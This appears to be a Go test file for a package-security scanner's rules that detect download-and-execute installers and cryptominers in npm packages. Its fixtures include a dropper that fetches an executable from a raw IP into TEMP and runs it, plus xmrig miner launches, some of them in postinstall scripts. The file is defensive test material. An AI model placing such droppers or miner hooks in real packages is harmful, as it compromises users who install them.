package exec

import (
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

const dropper = `const http=require("http"),fs=require("fs"),path=require("path"),{execFileSync}=require("child_process");
const dest = path.join(process.env.TEMP, "u.exe");
http.get("http://203.0.113.9:3000/u.exe", r => { r.pipe(fs.createWriteStream(dest)); r.on("end", () => execFileSync(dest)) })`

const binaryInstaller = `const https=require("https"),fs=require("fs"),{execFileSync}=require("child_process");
https.get("https://registry.npm.local/@x/linux-x64/-/linux-x64-1.0.0.tgz", r => r.pipe(fs.createWriteStream("pkg.tgz")));
execFileSync(binPath, ["--version"])`

func TestDownloadExecute(t *testing.T) {
	rt.Check(t, DownloadExecute{}, []rt.Case{
		{"raw_ip_temp_exe", map[string]string{"postinstall.js": dropper}, finding.SeverityCritical},
		{"registry_binary", map[string]string{"install.js": binaryInstaller, "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityLow},
		// The same installer fetching from a host that is not the project's
		// registry (nor a well-known download host) is not trusted.
		{"unknown_host_binary", map[string]string{"install.js": strings.Replace(binaryInstaller, "registry.npm.local", "dl.example.invalid", 1), "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityMedium},
		{"download_only", map[string]string{"index.js": `require("https").get("https://x.invalid/f", r => r.pipe(require("fs").createWriteStream("f")))`}, finding.SeverityNone},
	})
}

func TestCryptominer(t *testing.T) {
	rt.Check(t, Cryptominer{}, []rt.Case{
		{"spawned", map[string]string{"index.js": `require("child_process").spawn("./bin/xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level=1"])`}, finding.SeverityCritical},
		{"install_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"./xmrig -o stratum+tcp://p.invalid:3333"}`)}, finding.SeverityCritical},
		{"mining_docs_word", map[string]string{"index.js": `const topic = "data mining and text mining"`}, finding.SeverityNone},
	})
}
